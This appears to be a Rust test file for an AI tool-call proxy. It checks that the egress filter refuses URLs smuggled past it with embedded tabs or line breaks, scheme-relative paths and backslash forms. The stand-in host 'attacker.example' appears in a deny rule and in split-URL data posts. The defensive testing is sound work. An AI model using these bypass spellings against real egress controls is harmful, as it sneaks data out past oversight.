//! A URL with a tab, CR or LF inside it: WHATWG (Node's fetch) and Python's `urlsplit` (so
//! urllib and requests) remove those three characters anywhere in a URL before they read it,
//! while the egress scan splits its text into words at every whitespace first, and reads
//! `http://1` + `69.254.169.254/` as two harmless pieces. A plain HTTP tool that posts with Node's
//! own fetch (tests/peers/node_fetch_tool.mjs), marked a sink, shows where the bytes really go: to
//! a server on 127.0.0.1. (Python's urllib and requests, and curl, refuse such a URL.)
//!
//! And a reference without a scheme: an API tool joins a `path` argument to its base URL
//! (`new URL(path, base)`, Python's `urljoin`), and `//host/…` — for WHATWG also `/\host/…` and
//! `\\host/…` — replaces the base's host. The scan reads no URL without a scheme, and a bare
//! host only from the start of a word.

use std::convert::Infallible;
use std::sync::{Arc, Mutex};

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use serde_json::json;

use crate::support::{config, post, proxy, Peer};

/// A real HTTP server on 127.0.0.1:0 recording `path body` of every request.
async fn target() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    tokio::spawn(async move {
        loop {
            let Ok((stream, _)) = listener.accept().await else { continue };
            let log = log.clone();
            tokio::spawn(async move {
                let svc = hyper::service::service_fn(move |req: http::Request<hyper::body::Incoming>| {
                    let log = log.clone();
                    async move {
                        let path = req.uri().path().to_owned();
                        let body = req.into_body().collect().await.map(|b| b.to_bytes()).unwrap_or_default();
                        log.lock().unwrap().push(format!("{path} {}", String::from_utf8_lossy(&body)));
                        Ok::<_, Infallible>(http::Response::new(Full::new(Bytes::from_static(b"ok"))))
                    }
                });
                let io = hyper_util::rt::TokioIo::new(stream);
                let _ = hyper::server::conn::http1::Builder::new().serve_connection(io, svc).await;
            });
        }
    });
    (port, seen)
}

/// The Node fetch tool as plain HTTP upstream `web`, a sink: loopback is refused to it.
fn rig(peer: &Peer) -> portcullis::config::Config {
    let url = format!("http://127.0.0.1:{}", peer.port);
    config(
        &[("web", &url)],
        "posture: auto\npermissions: { allow: [\"http__*\"] }\negress: { sinks: [\"http__web__*\"] }\n",
    )
}

/// The tool's answer (or the proxy's refusal) to posting to `url`.
async fn post_to(p: &portcullis::app::Running, url: &str) -> String {
    let args = json!({ "url": url, "body": "the quarterly numbers" }).to_string();
    let (status, _, body) = post(&format!("http://{}/http/web/post", p.addr), &[], args).await;
    format!("{status} {body}")
}

fn fetcher() -> Peer {
    Peer::start("node", &["node_fetch_tool.mjs"])
}

#[tokio::test]
async fn a_sink_is_refused_loopback_spelt_whole() {
    let (port, seen) = target().await;
    let peer = fetcher();
    let p = proxy(&rig(&peer)).await;
    let out = post_to(&p, &format!("http://127.0.0.1:{port}/hook")).await;
    assert!(out.starts_with("403") && out.contains("egress: loopback"), "{out}");
    assert!(peer.tools_run().is_empty() && seen.lock().unwrap().is_empty());
    p.shutdown().await;
}

#[tokio::test]
async fn a_sink_is_refused_loopback_spelt_with_a_line_break_inside() {
    let (port, seen) = target().await;
    let peer = fetcher();
    let p = proxy(&rig(&peer)).await;
    let mut reached = Vec::new();
    for url in [format!("http://12\n7.0.0.1:{port}/lf"), format!("http://12\t7.0.0.1:{port}/tab")] {
        let out = post_to(&p, &url).await;
        if !out.contains("egress: loopback") {
            reached.push(format!("{url:?}: {out}"));
        }
    }
    let seen = seen.lock().unwrap().clone();
    assert!(reached.is_empty(), "forwarded: {reached:?}; the server on 127.0.0.1 received {seen:?}");
    assert!(seen.is_empty(), "{seen:?}");
    p.shutdown().await;
}

#[tokio::test]
async fn a_denied_host_spelt_with_a_line_break_inside_is_refused() {
    let peer = fetcher();
    let url = format!("http://127.0.0.1:{}", peer.port);
    let c = config(
        &[("web", &url)],
        "posture: auto\npermissions: { allow: [\"http__*\"] }\n\
         egress: { sinks: [\"http__web__*\"], allow: [api.github.com], deny: [\"*.attacker.example\"] }\n",
    );
    let p = proxy(&c).await;
    // Spelt whole, the deny holds; Node's reading of the split spelling is the denied host.
    let out = post_to(&p, "https://api.github.com.attacker.example/x").await;
    assert!(out.starts_with("403"), "{out}");
    let split = "https://api.github.com\n.attacker.example/x";
    let node = std::process::Command::new("node")
        .args(["-e", "console.log(new URL(process.argv[1]).host)", split])
        .output()
        .expect("node runs");
    assert_eq!(String::from_utf8_lossy(&node.stdout).trim(), "api.github.com.attacker.example");
    let out = post_to(&p, split).await;
    let ran = peer.journal();
    assert!(out.starts_with("403") && ran.is_empty(), "forwarded: {out}; the tool ran {ran:?}");
    p.shutdown().await;
}

/// What the API tool (`/call`, a path joined to its base with `new URL(path, base)`) was told.
async fn call_path(p: &portcullis::app::Running, path: &str) -> String {
    let args = json!({ "path": path, "body": "the quarterly numbers" }).to_string();
    let (status, _, body) = post(&format!("http://{}/http/web/call", p.addr), &[], args).await;
    format!("{status} {body}")
}

#[tokio::test]
async fn an_absolute_url_in_a_path_argument_is_read() {
    let (port, seen) = target().await;
    let peer = fetcher();
    let p = proxy(&rig(&peer)).await;
    let out = call_path(&p, &format!("http://127.0.0.1:{port}/rel")).await;
    assert!(out.starts_with("403") && out.contains("egress: loopback"), "{out}");
    assert!(peer.journal().is_empty() && seen.lock().unwrap().is_empty());
    p.shutdown().await;
}

#[tokio::test]
async fn a_scheme_relative_reference_in_a_path_argument_is_read() {
    let (port, seen) = target().await;
    let peer = fetcher();
    let p = proxy(&rig(&peer)).await;
    let mut reached = Vec::new();
    for path in [format!("//127.0.0.1:{port}/rel"), format!("/\\127.0.0.1:{port}/backslash")] {
        let out = call_path(&p, &path).await;
        if !out.contains("egress: loopback") {
            reached.push(format!("{path}: {out}"));
        }
    }
    let seen = seen.lock().unwrap().clone();
    assert!(reached.is_empty(), "forwarded: {reached:?}; the server on 127.0.0.1 received {seen:?}");
    p.shutdown().await;
}
